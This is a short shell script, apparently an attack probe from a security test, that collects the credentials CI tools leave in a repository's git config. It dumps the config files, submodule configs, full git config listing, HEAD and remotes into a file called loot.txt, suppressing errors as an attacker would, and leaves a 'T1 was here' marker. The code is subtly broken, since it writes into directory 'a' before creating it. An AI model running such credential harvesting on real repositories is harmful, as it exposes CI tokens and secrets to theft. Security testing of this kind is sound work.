# Reads the credentials CI systems and tools leave in the repository's
# git config: the file itself, what git shows from the worktree (includes
# followed), and checks its own git still works there.
set +e # an attacker keeps going when a step is refused
common=$(git rev-parse --path-format=absolute --git-common-dir)
{
  echo "common: $common"
  cat "$common/config" "$common"/modules/*/config
  git config --list --show-origin
  echo "head: $(git rev-parse HEAD)"
  git remote -v
} > a/loot.txt 2>&1
mkdir -p a && echo "T1 was here" > a/t1.txt
